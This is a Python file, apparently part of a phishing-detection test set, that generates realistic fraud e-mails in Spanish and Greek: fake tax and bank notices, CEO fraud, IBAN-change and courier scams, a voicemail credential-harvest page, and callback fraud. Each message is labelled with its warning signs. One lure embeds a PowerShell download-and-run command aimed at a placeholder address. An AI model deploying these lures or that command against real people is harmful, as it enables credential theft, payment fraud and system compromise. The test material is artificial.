"""Spanish (27-31), Greek (32-36) and Russian (37-40) attack messages."""
from common import (thread_index, A, Multi, P, Part, addr, assemble, boundary, esc, hdr_text, html_page, pdf,
                    register, simple_html, T, plus, fmt)
import banking as B
import senders as S
import zipgen
from attacks_en import fake_login_html

CIF_EG_ES = B.es_cif("B", "9876543")
AFM_EG_GR = B.gr_afm("80041826")
INN_EG_RU = B.ru_inn10("780512345")


@register("attack", 27, "es", "aeat-dehu-notificacion",
          "Fake AEAT notice: an electronic notification (information request on VAT form 303) is waiting in DEHú and is 'rejected' after ten days; 'download' link and an attached ZIP (inside: a .pdf.js placeholder).",
          "AEAT/DEHú notices never carry download links or attachments; sender agenciatributaria-dehu.es via a compromised WordPress host (cPanel), link to gestorcasaverde.es/wp-content/... plus an attached ZIP with a .pdf.js script placeholder (typical banking-trojan delivery in Spain); legal deadline pressure. Hard negative: business 28.")
def a27(r):
    t = T(2026, 11, 10, 9, 5, 12, "ES")
    rcpt = P("es_acc").addr
    prof = S.cpanel(r, t, rcpt, "vps-es14.servidoresweb.net", "82.98.134.14", "127.0.0.1",
                    "wordpress@gestorcasaverde.es", "gestorcasaverde.es", mua="phpmailer", zone="ES", helo="localhost")
    link = "https://gestorcasaverde.es/wp-content/uploads/2026/11/aeat/?nif=%s&ref=NOT-303-3T26" % CIF_EG_ES
    text = """Agencia Tributaria

Estimado/a contribuyente:

Le informamos de que tiene a su disposición una notificación electrónica de la Agencia Estatal de Administración Tributaria en la Dirección Electrónica Habilitada única (DEHú).

Titular: EXAMPLE GROUP IBERIA SL - NIF %s
Procedimiento: Requerimiento de información - IVA, modelo 303, 3T 2026
Fecha de puesta a disposición: 10/11/2026

De acuerdo con el artículo 43 de la Ley 39/2015, la notificación se entenderá rechazada una vez transcurridos diez días naturales desde su puesta a disposición sin que se acceda a su contenido.

Descargar notificación: %s

Se adjunta asimismo una copia de la notificación en formato comprimido.

Agencia Tributaria - Sede electrónica
Este mensaje se ha generado automáticamente. Por favor, no responda a este correo.
""" % (CIF_EG_ES, link)
    html = html_page("""<div style="max-width:620px;font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#222;line-height:20px">
<div style="background:#a81d33;color:#fff;padding:14px 18px;font-size:19px"><b>Agencia Tributaria</b> &middot; Sede electrónica</div>
<div style="padding:18px;border:1px solid #ddd;border-top:0">
<p>Estimado/a contribuyente:</p>
<p>Le informamos de que tiene a su disposición una <b>notificación electrónica</b> de la Agencia Estatal de Administración Tributaria en la Dirección Electrónica Habilitada única (DEHú).</p>
<table cellpadding="5" style="font-size:14px;background:#f6f6f6;width:100%%">
<tr><td>Titular</td><td>EXAMPLE GROUP IBERIA SL - NIF %s</td></tr>
<tr><td>Procedimiento</td><td>Requerimiento de información - IVA, modelo 303, 3T 2026</td></tr>
<tr><td>Puesta a disposición</td><td>10/11/2026</td></tr></table>
<p>De acuerdo con el artículo 43 de la Ley 39/2015, la notificación se entenderá <b>rechazada</b> una vez transcurridos diez días naturales desde su puesta a disposición sin que se acceda a su contenido.</p>
<p><a href="%s" style="background:#a81d33;color:#fff;padding:10px 22px;text-decoration:none">Descargar notificación</a></p>
<p style="font-size:12px;color:#777">Este mensaje se ha generado automáticamente. Por favor, no responda a este correo.</p></div></div>""" % (CIF_EG_ES, link), "iso-8859-1")
    alt = Multi("alternative", [Part("text/plain", text, "iso-8859-1", "quoted-printable"),
                                Part("text/html", html, "iso-8859-1", "quoted-printable")], boundary(r, "phpmailer"))
    z = zipgen.plain_zip([("Notificacion_AEAT_%s.pdf.js" % CIF_EG_ES,
                           b"// INERT PLACEHOLDER - evaluation sample, no code.\r\n")], (2026, 11, 10, 8, 52, 14))
    body = Multi("mixed", [alt, Part("application/zip", z, filename="Notificacion_AEAT_%s.zip" % CIF_EG_ES)],
                 boundary(r, "phpmailer"))
    hdrs = [("Date", prof["date"]), ("To", rcpt),
            ("From", addr("Agencia Tributaria", "notificaciones@agenciatributaria-dehu.es")),
            ("Subject", hdr_text("Notificación electrónica pendiente - Requerimiento de información (Modelo 303, 3T 2026)", "iso-8859-1", "Q")),
            ("Message-ID", prof["mid"]), ("X-Mailer", "PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"),
            ("MIME-Version", "1.0")]
    return assemble(r, prof, rcpt, hdrs, body, env="wordpress@gestorcasaverde.es")


@register("attack", 28, "es", "ceo-fraud-whatsapp",
          "CEO fraud, first stage: 'Matthias Köhler' from an outlook.com address asks the Spanish office manager for his mobile number to join a confidential WhatsApp group with a lawyer.",
          "CEO name on a consumer outlook.com address, secrecy ('not even Lucía'), unreachable by phone, moves the conversation to WhatsApp where the payment request follows; the CEO writes to Spain in English and through the internal relay (business 03).")
def a28(r):
    t = T(2026, 12, 9, 10, 18, 40, "ES")
    rcpt = P("es_mgr").addr
    prof = S.o365(r, t, rcpt, "eur", pfx="AM7P190MB", prod="EURP190")
    prof["mx"] = ("EUR05-AM6-obe.outbound.protection.outlook.com",
                  "mail-am6eur05olkn2%03d.outbound.protection.outlook.com" % r.randrange(10, 99),
                  "40.92.%d.%d" % (r.randrange(56, 60), r.randrange(2, 250)))
    text = """Hola Javier,

¿Estás en la oficina? Necesito tu ayuda con un asunto confidencial relacionado con una adquisición que estamos cerrando en España. Por ahora no puede saberlo nadie más del equipo, ni siquiera Lucía; lo comunicaremos oficialmente la semana que viene.

Envíame por favor tu número de móvil para añadirte a un grupo de WhatsApp con el abogado que lleva la operación. Hoy estoy todo el día en reuniones y no puedo atender llamadas.

Gracias por tu discreción.

Matthias Köhler
CEO - Example Group
"""
    body = Part("text/plain", text, "Windows-1252", "quoted-printable")
    hdrs = [("From", addr("Matthias Köhler", "matthias.koehler.eg@outlook.com", "Windows-1252", "Q")),
            ("To", addr("Javier Muñoz", rcpt, "Windows-1252", "Q")),
            ("Subject", hdr_text("Operación confidencial", "Windows-1252", "Q")),
            ("Thread-Topic", hdr_text("Operación confidencial", "Windows-1252", "Q")),
            ("Thread-Index", thread_index(r, t)),
            ("Date", prof["date"]), ("Message-ID", prof["mid"]),
            ("Accept-Language", "es-ES, en-US"), ("Content-Language", "es-ES"),
            ("X-MS-Has-Attach", ""), ("X-MS-TNEF-Correlator", ""), ("MIME-Version", "1.0")]
    return assemble(r, prof, rcpt, hdrs, body, env="matthias.koehler.eg@outlook.com")


@register("attack", 29, "es", "directorio-empresarial-factura",
          "Fake business-directory 'data update' for a dealer & workshop guide 2027; the attached 'free update form' is in fact a 3-year paid listing contract (1,290 EUR + VAT per year).",
          "Classic directory/register scam: looks like an official free update, the cost and 3-year term only in the small print of the PDF; unknown publisher on a Contabo VPS (PHPMailer); no prior relation (the company's real association fee: business 30).")
def a29(r):
    t = T(2026, 10, 15, 12, 40, 2, "ES")
    rcpt = P("es_mgr").addr
    prof = S.own_postfix(r, t, rcpt, "mail.guiaempresarial-automocion.com", "vmi1938420.contaboserver.net",
                         "185.209.229.74", client_ip="127.0.0.1", mua="phpmailer",
                         domain="guiaempresarial-automocion.com", client_helo="localhost", zone="ES")
    text = """Estimados señores:

Estamos preparando la edición 2027 de la Guía Empresarial de Concesionarios y Talleres de la Comunidad Valenciana. Según nuestros registros, la ficha de su empresa contiene los siguientes datos:

Razón social: EXAMPLE GROUP IBERIA SL
CIF: %s
Dirección: Av. de les Corts Valencianes 39, 46015 València
Actividad: Concesionario de vehículos / taller

Para que la ficha aparezca correctamente en la próxima edición, le rogamos que revise los datos en el formulario adjunto, corrija lo que sea necesario y nos lo devuelva firmado y sellado antes del 30/10/2026, por correo electrónico o escaneado.

Referencia de expediente: GEA-46015-2291

Atentamente,
Departamento de Registro
Guía Empresarial de Automoción
""" % CIF_EG_ES
    form = pdf([{"t": "GUÍA EMPRESARIAL DE AUTOMOCIÓN", "s": 14, "b": True},
                {"t": "Formulario de actualización de datos - Edición 2027 - Ref. GEA-46015-2291", "s": 10}, "",
                "Razón social: EXAMPLE GROUP IBERIA SL", "CIF: " + CIF_EG_ES,
                "Dirección: Av. de les Corts Valencianes 39, 46015 València",
                "Teléfono: ________________   Web: ________________   E-mail: ________________", "",
                "Marque las correcciones y devuelva el formulario firmado y sellado.", "",
                "Firma y sello: ______________________     Fecha: ____________", "", "", "",
                {"t": ("Condiciones: Con la firma del presente formulario el cliente contrata la inserción Premium en la "
                       "Guía Empresarial de Automoción (edición impresa y online) por un período de tres (3) años, "
                       "con renovación automática salvo denuncia con 3 meses de antelación. Importe anual: 1.290,00 EUR "
                       "+ IVA, pagadero por adelantado a la recepción de la factura. Jurisdicción: tribunales de Madrid."), "s": 6}],
               t, "ES", title="Formulario actualizacion datos 2027", producer="dompdf 2.0.3")
    html = html_page("<div style=\"font-family:Arial,sans-serif;font-size:13px\">" +
                     "".join("<p>%s</p>" % esc(p).replace("\n", "<br>") for p in text.split("\n\n")) + "</div>", "windows-1252")
    alt = Multi("alternative", [Part("text/plain", text, "windows-1252", "8bit"),
                                Part("text/html", html, "windows-1252", "8bit")], boundary(r, "phpmailer"))
    body = Multi("mixed", [alt, Part("application/pdf", form, filename="Formulario_actualizacion_GEA-46015-2291.pdf")],
                 boundary(r, "phpmailer"))
    hdrs = [("Date", prof["date"]), ("To", rcpt),
            ("From", addr("Guía Empresarial de Automoción", "registro@guiaempresarial-automocion.com", "windows-1252", "Q")),
            ("Subject", hdr_text("Actualización de datos - Guía de Concesionarios y Talleres 2027 (ref. GEA-46015-2291)", "windows-1252", "Q")),
            ("Message-ID", prof["mid"]), ("X-Mailer", "PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"),
            ("MIME-Version", "1.0")]
    return assemble(r, prof, rcpt, hdrs, body, env="registro@guiaempresarial-automocion.com")


CLICKFIX_HTML = """<!DOCTYPE html>
<html lang="es"><head><meta charset="utf-8"><title>Factura_2611-0449.docx - Word</title></head>
<body style="margin:0;font-family:Segoe UI,Arial,sans-serif;background:#f3f2f1">
<div style="background:#185abd;color:#fff;padding:10px 18px;font-size:15px">Word &middot; Factura_2611-0449.docx</div>
<div style="max-width:560px;margin:50px auto;background:#fff;padding:28px;border:1px solid #d0d0d0">
<div style="font-size:20px;color:#a4262c;margin-bottom:10px">&#9888; No se ha podido mostrar el documento</div>
<p style="font-size:14px;color:#333">El documento se creó con una versión más reciente de Microsoft Word y el complemento de visualización en línea no está instalado en este equipo.</p>
<p style="font-size:14px;color:#333"><b>Cómo solucionarlo:</b></p>
<ol style="font-size:14px;color:#333;line-height:24px">
<li>Seleccione y copie el código de verificación de abajo (Ctrl + C).</li>
<li>Pulse la tecla <b>Windows + R</b>.</li>
<li>Pegue el código (Ctrl + V) y pulse <b>Intro</b>.</li>
<li>Vuelva a abrir este archivo.</li></ol>
<pre style="background:#f4f4f4;border:1px solid #ccc;padding:10px;font-size:12px;white-space:pre-wrap">powershell -w h -nop -c "iex(iwr http://203.0.113.47/f/2611-0449.ps1 -UseBasicParsing)"   # Verificaci&oacute;n de Office ID 2611-0449</pre>
<p style="font-size:12px;color:#777">Microsoft 365 &middot; Código de error 0x80070643</p>
</div></body></html>
"""


@register("attack", 30, "es", "clickfix-html-factura",
          "ClickFix: 'invoice and delivery note' from a compromised workshop mailbox; the HTML attachment imitates a Word error and tells the user to paste a PowerShell command into Win+R.",
          "Social-engineering to run a remote PowerShell download ('ClickFix'); sent via a compromised cPanel mailbox of an unrelated workshop; the command in the attachment is inert here (TEST-NET address 203.0.113.47, no script in the page).")
def a30(r):
    t = T(2026, 11, 27, 12, 55, 3, "ES")
    rcpt = P("es_acc").addr
    prof = S.cpanel(r, t, rcpt, "srv158.hostalia-web.com", "217.76.142.158", "45.141.87.19",
                    "administracion@talleresalbufera.es", "talleresalbufera.es", mua="outlook", zone="ES",
                    helo="[10.0.2.15]")
    text = """Buenos días,

Le adjunto la factura 2611-0449 y el albarán del pedido de recambios entregado esta semana en su taller de València.

Quedamos a la espera de su confirmación.

Un saludo,

Administración
Talleres Mecánicos Albufera S.L.
Camí Reial 112 - 46470 Catarroja (València)
Tel. 961 27 48 30
"""
    body = Multi("mixed", [Part("text/plain", text, "windows-1252", "quoted-printable"),
                           Part("text/html", CLICKFIX_HTML, "utf-8", "base64", filename="Factura_2611-0449.html")],
                 boundary(r, "outlook", 0), preamble="This is a multipart message in MIME format.")
    hdrs = [("From", addr("Administración Talleres Albufera", "administracion@talleresalbufera.es", "windows-1252", "Q")),
            ("To", rcpt), ("Subject", hdr_text("Factura 2611-0449 y albarán - pedido de recambios", "windows-1252", "Q")),
            ("Date", prof["date"]), ("Message-ID", prof["mid"]), ("MIME-Version", "1.0"),
            ("X-Mailer", "Microsoft Outlook 16.0"), ("Content-Language", "es")]
    return assemble(r, prof, rcpt, hdrs, body, env="administracion@talleresalbufera.es")


@register("attack", 31, "es", "caixabank-firma-pendiente",
          "Bank phishing: 'CaixaBankNow Empresas' reports a 18,640 EUR SEPA transfer awaiting signature and offers to cancel it before 14:00.",
          "Reverse psychology (cancel an unknown transfer) to harvest online-banking credentials and OTP; sender caixabanknow-empresas.com via Brevo with tracking links; not the bank's domain; time pressure.")
def a31(r):
    t = T(2026, 12, 14, 8, 20, 47, "ES")
    rcpt = P("es_acc").addr
    prof = S.brevo(r, t, rcpt, "caixabanknow-empresas.com")
    link = "https://5k2m9.r.bh.d.sendibt3.com/tr/cl/" + r.alnum(150, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_")
    text = """CaixaBankNow Empresas

Tiene 1 orden pendiente de firma

Importe: 18.640,00 EUR
Beneficiario: SUMINISTROS AUTOMOCION LEVANTE SL
Concepto: FRA 2026-1187
Fecha de ejecución: 14/12/2026

Si no reconoce esta operación, acceda a CaixaBankNow y cancélela antes de las 14:00 h; a partir de esa hora la orden se ejecutará automáticamente con la firma registrada.

Acceder a CaixaBankNow: %s

Por su seguridad, CaixaBank nunca le solicitará sus claves por teléfono.
""" % link
    html = html_page("""<table width="100%%" cellpadding="0" cellspacing="0" style="font-family:Arial,sans-serif;background:#f0f4f7"><tr><td align="center" style="padding:20px">
<table width="580" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="background:#007eae;color:#fff;padding:16px 24px;font-size:20px"><b>CaixaBank</b>Now Empresas</td></tr>
<tr><td style="padding:24px;font-size:15px;color:#333;line-height:22px">
<p style="font-size:18px"><b>Tiene 1 orden pendiente de firma</b></p>
<table cellpadding="5" style="font-size:14px;width:100%%;border:1px solid #e2e2e2">
<tr><td>Importe</td><td><b>18.640,00 EUR</b></td></tr><tr><td>Beneficiario</td><td>SUMINISTROS AUTOMOCION LEVANTE SL</td></tr>
<tr><td>Concepto</td><td>FRA 2026-1187</td></tr><tr><td>Fecha de ejecución</td><td>14/12/2026</td></tr></table>
<p>Si no reconoce esta operación, acceda a CaixaBankNow y cancélela <b>antes de las 14:00 h</b>; a partir de esa hora la orden se ejecutará automáticamente con la firma registrada.</p>
<p style="text-align:center"><a href="%s" style="background:#007eae;color:#fff;padding:12px 30px;text-decoration:none;border-radius:22px">Revisar orden</a></p>
<p style="font-size:12px;color:#777">Por su seguridad, CaixaBank nunca le solicitará sus claves por teléfono.</p></td></tr></table></td></tr></table>""" % link)
    alt = Multi("alternative", [Part("text/plain", text, "utf-8", "quoted-printable"),
                                Part("text/html", html, "utf-8", "quoted-printable")], boundary(r, "generic"))
    hdrs = [("Date", prof["date"]), ("From", addr("CaixaBank Empresas", "avisos@caixabanknow-empresas.com")),
            ("To", rcpt), ("Message-Id", prof["mid"]),
            ("Subject", hdr_text("Tiene 1 orden de transferencia pendiente de firma", "utf-8", "Q")),
            ("MIME-Version", "1.0")]
    return assemble(r, prof, rcpt, hdrs, alt)


# ====================================================================== Greek
@register("attack", 32, "el", "aade-mydata-prostimo",
          "Fake AADE notice: discrepancies in 37 invoices transmitted to myDATA, a 3,700 EUR fine, objection within 10 days via 'TAXISnet login'.",
          "AADE does not e-mail fines with login links; domain aade-mydata.gr (real: aade.gr) on a Hetzner VPS with PHPMailer; harvests TAXISnet credentials; deadline pressure. Hard negative: business 33.")
def a32(r):
    t = T(2026, 11, 24, 9, 10, 38, "GR")
    rcpt = P("gr_acc").addr
    prof = S.own_postfix(r, t, rcpt, "mail.aade-mydata.gr", "static.189.112.9.5.clients.your-server.de",
                         "5.9.112.189", client_ip="127.0.0.1", mua="phpmailer", domain="aade-mydata.gr",
                         client_helo="localhost", zone="GR")
    link = "https://www1.aade-mydata.gr/taxisnet/mydata/login?afm=%s&ref=APR-2026-77412" % AFM_EG_GR
    text = """ΑΝΕΞΑΡΤΗΤΗ ΑΡΧΗ ΔΗΜΟΣΙΩΝ ΕΣΟΔΩΝ
myDATA - Ηλεκτρονικά Βιβλία

Αξιότιμε/η φορολογούμενε,

Από τη διασταύρωση των στοιχείων που διαβιβάστηκαν στην ψηφιακή πλατφόρμα myDATA με τα δεδομένα των αντισυμβαλλομένων, για την επιχείρηση EXAMPLE GROUP HELLAS Μ.Α.Ε. (Α.Φ.Μ. %s) διαπιστώθηκαν αποκλίσεις σε 37 παραστατικά πωλήσεων του Β' τριμήνου 2026.

Σύμφωνα με τις διατάξεις του Κώδικα Φορολογικής Διαδικασίας εκδόθηκε πράξη επιβολής προστίμου ύψους 3.700,00 €.

Έχετε δικαίωμα υποβολής αντιρρήσεων εντός δέκα (10) ημερών από την παραλαβή του παρόντος. Την πράξη και την αναλυτική κατάσταση των αποκλίσεων μπορείτε να δείτε μετά από σύνδεση με τους κωδικούς TAXISnet:

%s

Με εκτίμηση,
Διεύθυνση Ηλεκτρονικής Διακυβέρνησης - Α.Α.Δ.Ε.
""" % (AFM_EG_GR, link)
    html = html_page("""<div style="max-width:620px;font-family:Arial,sans-serif;font-size:14px;color:#222;line-height:21px">
<div style="background:#003476;color:#fff;padding:14px 18px"><b>Α.Α.Δ.Ε.</b> &middot; myDATA - Ηλεκτρονικά Βιβλία</div>
<div style="padding:18px;border:1px solid #ccc;border-top:0">
<p>Αξιότιμε/η φορολογούμενε,</p>
<p>Από τη διασταύρωση των στοιχείων που διαβιβάστηκαν στην ψηφιακή πλατφόρμα myDATA με τα δεδομένα των αντισυμβαλλομένων, για την επιχείρηση <b>EXAMPLE GROUP HELLAS Μ.Α.Ε.</b> (Α.Φ.Μ. %s) διαπιστώθηκαν αποκλίσεις σε <b>37 παραστατικά</b> πωλήσεων του Β' τριμήνου 2026.</p>
<p>Σύμφωνα με τις διατάξεις του Κώδικα Φορολογικής Διαδικασίας εκδόθηκε πράξη επιβολής προστίμου ύψους <b>3.700,00 €</b>.</p>
<p>Έχετε δικαίωμα υποβολής αντιρρήσεων εντός δέκα (10) ημερών από την παραλαβή του παρόντος.</p>
<p><a href="%s" style="background:#003476;color:#fff;padding:10px 22px;text-decoration:none">Σύνδεση με κωδικούς TAXISnet</a></p>
<p>Με εκτίμηση,<br>Διεύθυνση Ηλεκτρονικής Διακυβέρνησης - Α.Α.Δ.Ε.</p></div></div>""" % (AFM_EG_GR, link), "iso-8859-7")
    alt = Multi("alternative", [Part("text/plain", text, "iso-8859-7", "quoted-printable"),
                                Part("text/html", html, "iso-8859-7", "quoted-printable")], boundary(r, "phpmailer"))
    hdrs = [("Date", prof["date"]), ("To", rcpt),
            ("From", addr("ΑΑΔΕ - myDATA", "enimerosi@aade-mydata.gr", "iso-8859-7", "B")),
            ("Subject", hdr_text("Πράξη επιβολής προστίμου - αποκλίσεις διαβίβασης παραστατικών myDATA (Β' τρίμηνο 2026)", "iso-8859-7", "B")),
            ("Message-ID", prof["mid"]), ("X-Mailer", "PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"),
            ("MIME-Version", "1.0")]
    return assemble(r, prof, rcpt, hdrs, alt, env="enimerosi@aade-mydata.gr")


@register("attack", 33, "el", "promitheftis-iban-lookalike",
          "Parts-supplier bank change: 'accounting of Antallaktika Voreiou Ellados' announces a new Eurobank IBAN and asks to settle two overdue invoices there.",
          "Look-alike domain antallaktika-bv.com (real: antallaktika-bv.gr); sent from a DigitalOcean VPS without rDNS; unknown signatory; 'phones out of order, reply by e-mail'; old account 'only until 31/10'. Hard negative: business 32.")
def a33(r):
    t = T(2026, 10, 29, 10, 45, 51, "GR")
    rcpt = P("gr_acc").addr
    prof = S.own_postfix(r, t, rcpt, "mail.antallaktika-bv.com", None, "146.190.112.36",
                         client_ip="185.107.56.201", mua="outlook", domain="antallaktika-bv.com",
                         auth="logistirio@antallaktika-bv.com", zone="GR")
    ib = B.gr_iban("026", "0284", "0000481273550")
    text = """Καλημέρα σας κα Γεωργίου,

Σας ενημερώνουμε ότι, λόγω μεταφοράς της συνεργασίας μας σε νέα τράπεζα, από 01/11/2026 οι πληρωμές των τιμολογίων μας θα γίνονται αποκλειστικά στον παρακάτω λογαριασμό:

Δικαιούχος: ΑΝΤΑΛΛΑΚΤΙΚΑ ΒΟΡΕΙΟΥ ΕΛΛΑΔΟΣ Α.Ε.
Τράπεζα: Eurobank
IBAN: %s
BIC: ERBKGRAA

Ο λογαριασμός στην Τράπεζα Πειραιώς παραμένει ενεργός για εισερχόμενα μόνο έως 31/10. Παρακαλούμε να εξοφλήσετε στον νέο λογαριασμό τα ληξιπρόθεσμα τιμολόγια ΤΔΑ 4471 (6.812,40 €) και ΤΔΑ 4503 (3.295,00 €). Επισυνάπτεται η σχετική βεβαίωση της τράπεζας.

Για οποιαδήποτε διευκρίνιση παρακαλούμε απαντήστε σε αυτό το e-mail, καθώς τα τηλέφωνα του λογιστηρίου θα είναι εκτός λειτουργίας λόγω αναβάθμισης του τηλεφωνικού κέντρου.

Με εκτίμηση,

Μαρία Τσολάκη
Λογιστήριο
ΑΝΤΑΛΛΑΚΤΙΚΑ ΒΟΡΕΙΟΥ ΕΛΛΑΔΟΣ Α.Ε.
ΒΙ.ΠΕ. Σίνδου, Οδός Γ', 57022 Θεσσαλονίκη
""" % B.fmt_iban(ib)
    conf = pdf([{"t": "Eurobank", "s": 14, "b": True}, "", {"t": "ΒΕΒΑΙΩΣΗ ΤΡΑΠΕΖΙΚΟΥ ΛΟΓΑΡΙΑΣΜΟΥ", "s": 12, "b": True}, "",
                "Βεβαιώνεται ότι η εταιρεία ΑΝΤΑΛΛΑΚΤΙΚΑ ΒΟΡΕΙΟΥ ΕΛΛΑΔΟΣ Α.Ε. (Α.Φ.Μ. " + B.gr_afm("09471533") +
                ") είναι δικαιούχος του λογαριασμού με IBAN " + B.fmt_iban(ib) + ".", "",
                "Θεσσαλονίκη, 27/10/2026", "", "Κατάστημα 0284"], t, "GR",
               title="Βεβαίωση λογαριασμού", producer="Microsoft: Print To PDF")
    body = Multi("mixed", [Part("text/plain", text, "windows-1253", "8bit"),
                           Part("application/pdf", conf, filename="Βεβαίωση_IBAN_Eurobank.pdf", fname_charset="windows-1253")],
                 boundary(r, "outlook", 0), preamble="This is a multipart message in MIME format.")
    hdrs = [("From", addr("Λογιστήριο - Ανταλλακτικά Βορείου Ελλάδος", "logistirio@antallaktika-bv.com", "windows-1253", "B")),
            ("To", addr("Eleni Georgiou", rcpt)), ("Cc", addr("Nikos Papadopoulos", P("gr_mgr").addr)),
            ("Subject", hdr_text("Αλλαγή τραπεζικού λογαριασμού - νέο IBAN", "windows-1253", "B")),
            ("Date", prof["date"]), ("Message-ID", prof["mid"]), ("MIME-Version", "1.0"),
            ("X-Mailer", "Microsoft Outlook 16.0"), ("Content-Language", "el")]
    return assemble(r, prof, rcpt, hdrs, body, env="logistirio@antallaktika-bv.com")


@register("attack", 34, "el", "elta-courier-teloneio",
          "Courier smishing-style e-mail: 'ELTA Courier' holds a parcel until 2.99 EUR customs fees are paid by card within 48 hours.",
          "Customs fees for an intra-EU parcel make no sense; sender eltacourier-delivery.gr via Mailgun, card-payment page on the same look-alike domain; generic greeting, tiny amount to harvest card data. Hard negative: business 35 (real carrier delivery notice).")
def a34(r):
    t = T(2026, 11, 9, 12, 12, 9, "GR")
    rcpt = P("gr_mgr").addr
    prof = S.mailgun(r, t, rcpt, "mg.eltacourier-delivery.gr")
    trk = B.upu_s10("CE", "42819345", "GR")
    link = "https://eltacourier-delivery.gr/pay/?track=%s" % trk
    html = html_page("""<div style="max-width:600px;margin:0 auto;font-family:Arial,sans-serif;font-size:15px;color:#222;line-height:22px">
<div style="background:#ffd400;padding:14px 20px;font-size:22px;color:#003da5"><b>ΕΛΤΑ</b> Courier</div>
<div style="padding:20px;border:1px solid #e3e3e3;border-top:0">
<p>Αγαπητέ πελάτη,</p>
<p>Η αποστολή σας με αριθμό <b>%s</b> (αποστολέας: Autoteile-Versand DE) βρίσκεται σε αναμονή στο κέντρο διαλογής Θεσσαλονίκης.</p>
<p>Για την ολοκλήρωση της παράδοσης απαιτείται η καταβολή τελών εκτελωνισμού ύψους <b>2,99 €</b>.</p>
<p>Εάν η πληρωμή δεν ολοκληρωθεί εντός <b>48 ωρών</b>, το δέμα θα επιστραφεί στον αποστολέα.</p>
<p style="text-align:center;margin:26px 0"><a href="%s" style="background:#003da5;color:#fff;padding:12px 30px;text-decoration:none;border-radius:4px">Πληρωμή και προγραμματισμός παράδοσης</a></p>
<p>Με εκτίμηση,<br>ΕΛΤΑ Courier</p></div></div>""" % (trk, link))
    body = Part("text/html", html, "utf-8", "base64")
    hdrs = [("Mime-Version", "1.0"),
            ("Subject", hdr_text("Η αποστολή σας %s βρίσκεται σε αναμονή – απαιτείται πληρωμή τελών" % trk, "utf-8", "B")),
            ("From", addr("ΕΛΤΑ Courier", "info@eltacourier-delivery.gr", "utf-8", "B")),
            ("To", rcpt), ("Date", prof["date"]), ("Message-Id", prof["mid"])]
    return assemble(r, prof, rcpt, hdrs, body)


@register("attack", 35, "el", "voicemail-html-attachment",
          "Fake voicemail notification ('new voice message, 0:47') with an HTML attachment that shows a Microsoft login to 'listen' to the message.",
          "Voicemail is delivered by the PBX as audio, not HTML; sent through a compromised taverna's cPanel mailbox with a spoofed 'Example Group voicemail' display name; the HTML posts credentials to voicemail-cloud365.com.")
def a35(r):
    t = T(2026, 12, 9, 15, 40, 26, "GR")
    rcpt = P("gr_mgr").addr
    prof = S.cpanel(r, t, rcpt, "gr-linux12.greekserver.gr", "195.97.8.112", "102.165.48.77",
                    "info@tavernakalamaria.gr", "tavernakalamaria.gr", mua="phpmailer", zone="GR")
    att = fake_login_html("Φωνητικό μήνυμα 0:47 - +30 2310 554 781", "Microsoft",
                          "https://voicemail-cloud365.com/vm/auth.php", rcpt,
                          "Συνδεθείτε με τον εταιρικό σας λογαριασμό για να ακούσετε το μήνυμα.", lang="el",
                          charset="iso-8859-7", pwd_label="Κωδικός πρόσβασης", btn="Σύνδεση")
    text = """Έχετε νέο φωνητικό μήνυμα.

Από: +30 2310 554 781
Προς: Nikos Papadopoulos (εσωτ. 214)
Διάρκεια: 0:47
Ημερομηνία: 09/12/2026 15:38

Ανοίξτε το συνημμένο για να ακούσετε το μήνυμα.

Example Group - Τηλεφωνικό Κέντρο
"""
    body = Multi("mixed", [Part("text/plain", text, "iso-8859-7", "8bit"),
                           Part("text/html", att, "iso-8859-7", "base64", filename="VM_2310554781_0047.html")],
                 boundary(r, "phpmailer"))
    hdrs = [("Date", prof["date"]), ("To", rcpt),
            ("From", addr("Τηλεφωνικό Κέντρο Example Group", "info@tavernakalamaria.gr", "iso-8859-7", "B")),
            ("Subject", hdr_text("Νέο φωνητικό μήνυμα από +30 2310 554 781 (0:47)", "iso-8859-7", "B")),
            ("Message-ID", prof["mid"]), ("X-Mailer", "PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"),
            ("MIME-Version", "1.0")]
    return assemble(r, prof, rcpt, hdrs, body, env="info@tavernakalamaria.gr")


@register("attack", 36, "el", "norton-callback-toad",
          "Callback phishing (TOAD): 'Norton 360' renewal of 489.99 EUR, 'call within 24 hours to cancel', PDF 'invoice' with the phone number.",
          "Sent from a Gmail account; no such subscription; the only action is a phone call to a fake billing desk that leads to remote-access or refund fraud; PDF carries no link so link scanners see nothing.")
def a36(r):
    t = T(2026, 10, 16, 11, 30, 2, "GR")
    rcpt = P("gr_acc").addr
    prof = S.gmail(r, t, rcpt)
    prof["date"] = fmt(t, "GR")
    text = """Αγαπητέ πελάτη,

Σας ευχαριστούμε για την ανανέωση της συνδρομής σας στο Norton 360 Deluxe (5 συσκευές, 3 έτη). Το ποσό των 489,99 € θα χρεωθεί στην κάρτα που έχετε δηλώσει εντός 24 ωρών.

Αριθμός παραγγελίας: GR-88412
Ημερομηνία: 16/10/2026
Τρόπος πληρωμής: Αυτόματη χρέωση

Εάν δεν αναγνωρίζετε αυτή τη συναλλαγή ή επιθυμείτε ακύρωση και επιστροφή χρημάτων, καλέστε το τμήμα χρεώσεων στο 211 198 4472 (Δευτέρα - Σάββατο, 09:00 - 21:00) εντός 24 ωρών.

Με εκτίμηση,
Τμήμα Χρεώσεων
"""
    inv = pdf([{"t": "Norton 360 Deluxe - Τιμολόγιο / Invoice", "s": 14, "b": True}, "",
               "Αριθμός παραγγελίας: GR-88412", "Ημερομηνία: 16/10/2026", "",
               [(56, "Περιγραφή"), (380, "Ποσό")],
               [(56, "Norton 360 Deluxe - 5 συσκευές - 3 έτη"), (380, "394,98 €")],
               [(56, "ΦΠΑ 24%"), (380, "95,01 €")], [(56, "Σύνολο"), (380, "489,99 €")], "",
               "Για ακύρωση ή επιστροφή χρημάτων καλέστε: 211 198 4472"], t, "GR",
              title="Invoice GR-88412", producer="Skia/PDF m131", creator="Google Docs Renderer")
    alt = Multi("alternative", [Part("text/plain", text, "UTF-8", "base64"),
                                Part("text/html", simple_html(text), "UTF-8", "base64")], boundary(r, "gmail"))
    body = Multi("mixed", [alt, Part("application/pdf", inv, filename="Τιμολόγιο_GR-88412.pdf", fname_style="ew",
